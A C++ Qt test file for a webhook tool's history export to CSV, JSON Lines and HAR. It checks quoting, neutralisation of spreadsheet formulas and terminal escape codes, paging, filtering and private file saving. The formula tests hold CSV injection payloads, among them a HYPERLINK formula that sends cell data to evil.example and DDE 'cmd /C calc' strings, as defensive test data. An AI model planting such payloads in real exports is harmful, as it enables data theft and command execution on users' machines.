// Tests for exporting the history as CSV (read back by an RFC 4180 reader) and JSON Lines: the
// format names, text that must not run in a spreadsheet or a terminal, paging with progress
// and cancel, exactly the rows asked for, and the file saved whole and private or not at all.
#include "core/base/savetofile.h"
#include "core/base/terminaltext.h"
#include "core/history/requestexport.h"
#include "exporttest.h"
#include "sqltestsupport.h"

#include <QBuffer>
#include <QDir>
#include <QJsonArray>
#include <QJsonDocument>
#include <QTest>

using namespace Hooktrail;
using namespace Hooktrail::TestSupport;
using namespace Qt::StringLiterals;

namespace {

// RFC 4180: records end with CRLF; a field is quoted when it holds a comma, quote, CR or LF,
// with quotes doubled inside. Anything else (a stray quote, a bare LF, an unterminated field)
// makes the whole document invalid: nullopt.
std::optional<QList<QStringList>> readCsv(const QByteArray &bytes)
{
    const QString text = QString::fromUtf8(bytes);
    QList<QStringList> records;
    QStringList record;
    QString field;
    bool quoted = false; // inside a quoted field
    bool wasQuoted = false; // the current field was quoted (and its closing quote seen)
    bool fieldStarted = false;
    for (qsizetype i = 0; i < text.size(); ++i) {
        const QChar c = text.at(i);
        if (quoted) {
            if (c == u'"') {
                if (i + 1 < text.size() && text.at(i + 1) == u'"') {
                    field += u'"';
                    ++i;
                } else {
                    quoted = false;
                    wasQuoted = true;
                }
            } else {
                field += c;
            }
            continue;
        }
        if (c == u',') {
            record << field;
            field.clear();
            wasQuoted = fieldStarted = false;
        } else if (c == u'\r') {
            if (i + 1 >= text.size() || text.at(i + 1) != u'\n')
                return std::nullopt;
            ++i;
            record << field;
            records << record;
            record.clear();
            field.clear();
            wasQuoted = fieldStarted = false;
        } else if (c == u'\n') {
            return std::nullopt; // a line break outside quotes is CRLF
        } else if (c == u'"') {
            if (fieldStarted || wasQuoted)
                return std::nullopt; // a quote inside an unquoted field
            quoted = true;
            fieldStarted = true;
        } else {
            if (wasQuoted)
                return std::nullopt; // text after the closing quote
            field += c;
            fieldStarted = true;
        }
    }
    if (quoted || !field.isEmpty() || !record.isEmpty())
        return std::nullopt; // the last record must end with CRLF too
    return records;
}

} // namespace

class tst_ExportFiles : public ExportTest
{
    Q_OBJECT

private slots:
    void formatFromName_data();
    void formatFromName();

    void csvRoundTrips();
    void csvNeutralisesFormulas_data();
    void csvNeutralisesFormulas();
    void terminalTextNeutralises_data();
    void terminalTextNeutralises();
    void jsonLinesHaveEveryField();
    void pagesProgressAndCancel_data();
    void pagesProgressAndCancel();
    void exportsExactlyTheIds();
    void exportFollowsTheFilter();
    void savedWholeAndPrivateOrNotAtAll();
};

void tst_ExportFiles::formatFromName_data()
{
    QTest::addColumn<QString>("name");
    QTest::addColumn<int>("format"); // -1: none
    QTest::newRow("har") << u"har"_s << int(RequestExport::Format::Har);
    QTest::newRow("jsonl") << u"jsonl"_s << int(RequestExport::Format::Jsonl);
    QTest::newRow("csv") << u"csv"_s << int(RequestExport::Format::Csv);
    QTest::newRow("capitals") << u"HAR"_s << int(RequestExport::Format::Har);
    QTest::newRow("json") << u"json"_s << -1;
    QTest::newRow("empty") << QString() << -1;
}

void tst_ExportFiles::formatFromName()
{
    QFETCH(QString, name);
    QFETCH(int, format);
    const std::optional<RequestExport::Format> parsed = RequestExport::formatFromName(name);
    QCOMPARE(parsed ? int(*parsed) : -1, format);
}

void tst_ExportFiles::csvRoundTrips()
{
    const QByteArray csv = exportAll(RequestExport::Format::Csv);
    const std::optional<QList<QStringList>> records = readCsv(csv);
    QVERIFY2(records, csv.constData());
    QCOMPARE(records->size(), m_rows.size() + 1);
    const QStringList header = records->first();
    QCOMPARE(header,
        u"id receivedAt webhookId method path query status reason reasonDetail clientAddress "
        u"forwardedFor "
        "contentType bodySize bodyTruncated bodyEncoding body headers handlingMicros instance"_s
            .split(u' '));
    for (qsizetype r = 1; r < records->size(); ++r) {
        const QStringList &record = records->at(r);
        QCOMPARE(record.size(), header.size());
        QHash<QString, QString> field;
        for (qsizetype c = 0; c < header.size(); ++c)
            field.insert(header.at(c), record.at(c));
        const qint64 id = field.value(u"id"_s).toLongLong();
        const auto row = std::find_if(
            m_rows.begin(), m_rows.end(), [id](const LoggedRequest &e) { return e.id == id; });
        QVERIFY(row != m_rows.end());
        QCOMPARE(
            field.value(u"receivedAt"_s), LoggedRequest::formatTimestamp(row->receivedAtMicros));
        QCOMPARE(field.value(u"webhookId"_s), row->webhookId);
        QCOMPARE(field.value(u"method"_s), QString::fromUtf8(row->method));
        QCOMPARE(field.value(u"path"_s), QString::fromUtf8(row->path));
        QCOMPARE(field.value(u"query"_s), QString::fromUtf8(row->query));
        QCOMPARE(field.value(u"status"_s), QString::number(row->status));
        QCOMPARE(field.value(u"reason"_s), QString::fromLatin1(row->reason));
        QCOMPARE(field.value(u"reasonDetail"_s), row->reasonDetail);
        QCOMPARE(field.value(u"clientAddress"_s), row->clientAddress);
        QCOMPARE(field.value(u"forwardedFor"_s), row->forwardedFor);
        QCOMPARE(field.value(u"contentType"_s), QString::fromUtf8(row->contentType));
        QCOMPARE(field.value(u"bodySize"_s), QString::number(row->bodySize));
        QCOMPARE(field.value(u"bodyTruncated"_s), row->bodyTruncated ? u"true"_s : u"false"_s);
        QCOMPARE(field.value(u"handlingMicros"_s), QString::number(row->handlingMicros));
        QCOMPARE(field.value(u"instance"_s), row->instance);
        // The body exactly: as text, or base64 when it is not UTF-8.
        const QByteArray body = field.value(u"bodyEncoding"_s) == u"base64"_s
            ? QByteArray::fromBase64(field.value(u"body"_s).toLatin1())
            : field.value(u"body"_s).toUtf8();
        QCOMPARE(body, row->body);
        QCOMPARE(
            field.value(u"bodyEncoding"_s), row == m_rows.begin() + 1 ? u"base64"_s : u"utf8"_s);
        HeaderList headers;
        for (const QJsonValue &pair :
            QJsonDocument::fromJson(field.value(u"headers"_s).toUtf8()).array())
            headers.append({ pair[0].toString().toUtf8(), pair[1].toString().toUtf8() });
        QCOMPARE(headers, row->headers);
    }
    // The awkward values really were there to quote.
    QVERIFY(csv.contains(",\"{\"\"note\"\":\"\"a, \\\"\"quoted"));
    QVERIFY(csv.contains("detail, with \"\"quotes\"\"\nand a second line"));
}

void tst_ExportFiles::csvNeutralisesFormulas_data()
{
    QTest::addColumn<QString>("column");
    QTest::addColumn<QByteArray>("value");
    // Each cell a spreadsheet would run, in each field a sender writes.
    const QList<QByteArray> formulas { "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"_ba,
        "+1+cmd|' /C calc'!A0"_ba, "-2+3"_ba, "@SUM(1+1)*cmd|' /C calc'!A0"_ba, "\t=1+1"_ba,
        "\r=1+1"_ba };
    for (const QByteArray &formula : formulas) {
        const QByteArray tag = formula.left(4).toHex();
        QTest::addRow("body %s", tag.constData()) << u"body"_s << formula;
        QTest::addRow("query %s", tag.constData()) << u"query"_s << formula;
        QTest::addRow("path %s", tag.constData()) << u"path"_s << formula;
        QTest::addRow("content type %s", tag.constData()) << u"contentType"_s << formula;
        QTest::addRow("detail %s", tag.constData()) << u"reasonDetail"_s << formula;
    }
    // Methods are HTTP tokens: + and - can start one.
    QTest::addRow("method +") << u"method"_s << "+SUM"_ba;
    QTest::addRow("method -") << u"method"_s << "-1"_ba;
}

void tst_ExportFiles::csvNeutralisesFormulas()
{
    QFETCH(QString, column);
    QFETCH(QByteArray, value);
    LoggedRequest request = baseEntry(1'700'000'000'000'000);
    request.id = 9;
    if (column == u"body"_s)
        request.body = value;
    else if (column == u"query"_s)
        request.query = value;
    else if (column == u"path"_s)
        request.path = value;
    else if (column == u"contentType"_s)
        request.contentType = value;
    else if (column == u"reasonDetail"_s)
        request.reasonDetail = QString::fromUtf8(value);
    else
        request.method = value;
    // The header cell is JSON: it starts with [ whatever the sender wrote.
    request.headers = { { "X-Formula"_ba, value } };
    const QByteArray row = RequestExport::csvRow(request);
    const std::optional<QList<QStringList>> records = readCsv(RequestExport::csvHeader() + row);
    QVERIFY2(records && records->size() == 2, row.constData());
    const QStringList header = records->first();
    const QStringList record = records->at(1);
    const QString cell = record.value(header.indexOf(column));
    // Text to a spreadsheet, the original after the quote, in a quoted field.
    QCOMPARE(cell, u"'"_s + QString::fromUtf8(value));
    QVERIFY2(row.contains(",\"'" + QByteArray(value).replace('"', "\"\"")), row.constData());
    QVERIFY(record.value(header.indexOf(u"headers"_s)).startsWith(u'['));
    // No other cell starts as a formula.
    for (const QString &other : record)
        QVERIFY2(other.isEmpty() || !QStringLiteral("=+-@\t\r").contains(other.front()),
            qPrintable(other));
}

void tst_ExportFiles::terminalTextNeutralises_data()
{
    QTest::addColumn<QByteArray>("text");
    QTest::addColumn<QByteArray>("shown");
    QTest::newRow("plain") << "id,body\r\n1,\"a\tb\"\n"_ba
                           << "id,body\r\n1,\"a\tb\"\n"_ba;
    QTest::newRow("clear screen") << "a\x1b[2Jb"_ba
                                  << "a\\u001b[2Jb"_ba;
    QTest::newRow("title and bell") << "\x1b]0;owned\x07"_ba
                                    << "\\u001b]0;owned\\u0007"_ba;
    QTest::newRow("bare CR rewrites the line") << "ok\rfake"_ba
                                               << "ok\\u000dfake"_ba;
    QTest::newRow("CR at the end") << "x\r"_ba
                                   << "x\\u000d"_ba;
    QTest::newRow("NUL, ^C, DEL") << "\0\x03\x7f"_ba
                                  << "\\u0000\\u0003\\u007f"_ba;
    QTest::newRow("C1 CSI in UTF-8") << "\xc2\x9b"
                                        "2J"_ba
                                     << "\\u009b"
                                        "2J"_ba;
    QTest::newRow("C1 NEL and OSC") << "\xc2\x85\xc2\x9d"_ba
                                    << "\\u0085\\u009d"_ba;
    QTest::newRow("other UTF-8 untouched") << "caf\xc3\xa9 \xc2\xa0 \xe2\x82\xac"_ba
                                           << "caf\xc3\xa9 \xc2\xa0 \xe2\x82\xac"_ba;
}

void tst_ExportFiles::terminalTextNeutralises()
{
    QFETCH(QByteArray, text);
    QFETCH(QByteArray, shown);
    QCOMPARE(TerminalText::neutralise(text), shown);
    QCOMPARE(TerminalText::neutralise(QString::fromUtf8(text)), QString::fromUtf8(shown));
    // JSON (where no raw control character is) reads back the same.
    const QString value = QString::fromUtf8(text);
    const QByteArray json = QJsonDocument(QJsonArray { value }).toJson(QJsonDocument::Compact);
    const QByteArray safe = TerminalText::neutralise(json);
    QCOMPARE(QJsonDocument::fromJson(safe).array().first().toString(), value);
    QVERIFY(std::none_of(safe.begin(), safe.end(), [](char c) { return c == 0x1b || c == 0; }));
}

void tst_ExportFiles::jsonLinesHaveEveryField()
{
    const QByteArray jsonl = exportAll(RequestExport::Format::Jsonl);
    QVERIFY(jsonl.endsWith('\n'));
    const QList<QByteArray> lines = jsonl.chopped(1).split('\n');
    QCOMPARE(lines.size(), m_rows.size());
    for (qsizetype i = 0; i < lines.size(); ++i) {
        QJsonParseError error;
        const QJsonDocument document = QJsonDocument::fromJson(lines.at(i), &error);
        QCOMPARE(error.error, QJsonParseError::NoError);
        const LoggedRequest &row = m_rows.at(m_rows.size() - 1 - i);
        const Result<std::optional<LoggedRequest>> stored = m_store->queries().request(row.id);
        VERIFY_OK(stored);
        QCOMPARE(document.object(), (*stored)->toJson());
        QCOMPARE(document.object().size(), 20); // every field of ARCHITECTURE §5.3
        QCOMPARE(document.object().value(u"id"_s).toInteger(), row.id);
    }
}

void tst_ExportFiles::pagesProgressAndCancel_data()
{
    QTest::addColumn<int>("format");
    QTest::addColumn<int>("cancelAfter"); // progress calls before cancelling; -1: never
    QTest::newRow("HAR") << int(RequestExport::Format::Har) << -1;
    QTest::newRow("JSON Lines") << int(RequestExport::Format::Jsonl) << -1;
    QTest::newRow("CSV") << int(RequestExport::Format::Csv) << -1;
    QTest::newRow("cancelled at the start") << int(RequestExport::Format::Har) << 0;
    QTest::newRow("cancelled after a page") << int(RequestExport::Format::Jsonl) << 1;
}

void tst_ExportFiles::pagesProgressAndCancel()
{
    QFETCH(int, format);
    QFETCH(int, cancelAfter);
    QList<LoggedRequest> more;
    for (int i = 0; i < 2500; ++i) {
        LoggedRequest entry = baseEntry(1'700'000'100'000'000 + i);
        entry.body = "{\"n\":" + QByteArray::number(i) + '}';
        entry.bodySize = entry.body.size();
        more.append(entry);
    }
    VERIFY_OK(m_store->log().append(more));
    const qint64 total = m_rows.size() + more.size();

    QList<QPair<qint64, qint64>> calls;
    QBuffer buffer;
    buffer.open(QIODevice::WriteOnly);
    const Status status = RequestExport::write(
        *m_store, RequestExport::Format(format), {}, {}, buffer, [&](qint64 done, qint64 all) {
            calls.append({ done, all });
            return cancelAfter < 0 || calls.size() <= cancelAfter;
        });
    if (cancelAfter >= 0) {
        QVERIFY(!status.ok());
        QCOMPARE(status.error(), u"cancelled"_s);
        QCOMPARE(calls.size(), cancelAfter + 1);
        QVERIFY(buffer.size() < 2 * 1024 * 1024);
        return;
    }
    VERIFY_OK(status);
    // Called at the start, after each page of 1,000 and at the end, always with the total.
    QCOMPARE(calls.first(), qMakePair(qint64(0), total));
    QCOMPARE(calls.last(), qMakePair(total, total));
    QVERIFY(calls.size() >= 4);
    for (qsizetype i = 1; i < calls.size(); ++i) {
        QVERIFY(calls.at(i).first >= calls.at(i - 1).first);
        QCOMPARE(calls.at(i).second, total);
    }
    // Every row once, newest first.
    QList<qint64> ids;
    if (RequestExport::Format(format) == RequestExport::Format::Har) {
        for (const QJsonValue &entry :
            QJsonDocument::fromJson(buffer.data()).object()[u"log"_s][u"entries"_s].toArray())
            ids.append(entry[u"_requestId"_s].toInteger());
    } else if (RequestExport::Format(format) == RequestExport::Format::Jsonl) {
        for (const QByteArray &line : buffer.data().trimmed().split('\n'))
            ids.append(QJsonDocument::fromJson(line).object().value(u"id"_s).toInteger());
    } else {
        const std::optional<QList<QStringList>> records = readCsv(buffer.data());
        QVERIFY(records);
        for (qsizetype i = 1; i < records->size(); ++i)
            ids.append(records->at(i).first().toLongLong());
    }
    QCOMPARE(ids.size(), total);
    for (qsizetype i = 1; i < ids.size(); ++i)
        QVERIFY(ids.at(i) < ids.at(i - 1));
}

void tst_ExportFiles::exportsExactlyTheIds()
{
    const QList<qint64> ids { m_rows.at(3).id, m_rows.at(0).id, m_rows.at(4).id + 1000 /* gone */ };
    const QByteArray jsonl = exportAll(RequestExport::Format::Jsonl, {}, ids);
    QList<qint64> exported;
    for (const QByteArray &line : jsonl.trimmed().split('\n'))
        exported.append(QJsonDocument::fromJson(line).object().value(u"id"_s).toInteger());
    QCOMPARE(exported, (QList<qint64> { m_rows.at(3).id, m_rows.at(0).id }));
}

void tst_ExportFiles::exportFollowsTheFilter()
{
    RequestFilter filter;
    filter.outcome = RequestFilter::Outcome::Rejected;
    const std::optional<QList<QStringList>> records
        = readCsv(exportAll(RequestExport::Format::Csv, filter));
    QVERIFY(records);
    QStringList reasons;
    for (qsizetype i = 1; i < records->size(); ++i)
        reasons.append(records->at(i).at(7));
    QCOMPARE(reasons, (QStringList { u"unknown_route"_s, u"unsupported_media_type"_s }));

    filter = {};
    filter.search = u"café"_s;
    const QByteArray jsonl = exportAll(RequestExport::Format::Jsonl, filter);
    QCOMPARE(jsonl.count('\n'), 1);
    QCOMPARE(QJsonDocument::fromJson(jsonl).object().value(u"id"_s).toInteger(), m_rows.at(3).id);
}

void tst_ExportFiles::savedWholeAndPrivateOrNotAtAll()
{
    const QString path = m_dir->filePath(QStringLiteral("saved.jsonl"));
    const auto writing = [](const QByteArray &bytes, const QString &error) {
        return [bytes, error](QIODevice &file) {
            file.write(bytes);
            return error.isEmpty() ? Status() : Status::failure(error);
        };
    };
    QVERIFY(SaveToFile::save(path, writing("first\n", {})));
    QFile saved(path);
    QCOMPARE(saved.permissions() & ~(QFile::ReadUser | QFile::WriteUser),
        QFile::ReadOwner | QFile::WriteOwner);
    QVERIFY(saved.open(QIODevice::ReadOnly));
    QCOMPARE(saved.readAll(), QByteArray("first\n"));
    saved.close();

    // The writer failing (or cancelled): its error, and the file there stays as it was.
    const Status failed
        = SaveToFile::save(path, writing("half", QStringLiteral("the store broke")));
    QCOMPARE(failed.error(), QStringLiteral("the store broke"));
    QVERIFY(saved.open(QIODevice::ReadOnly));
    QCOMPARE(saved.readAll(), QByteArray("first\n"));
    saved.close();
    QCOMPARE(QDir(m_dir->path()).entryList(QDir::Files).filter(QStringLiteral("saved")).size(), 1);

    // A file that cannot be opened is named in the error.
    const QString nowhere = m_dir->filePath(QStringLiteral("missing/saved.jsonl"));
    const Status unopened = SaveToFile::save(nowhere, writing("x", {}));
    QVERIFY(!unopened);
    QVERIFY2(unopened.error().startsWith(nowhere + QStringLiteral(" cannot be written: ")),
        qPrintable(unopened.error()));
}

QTEST_GUILESS_MAIN(tst_ExportFiles)
#include "tst_export_files.moc"
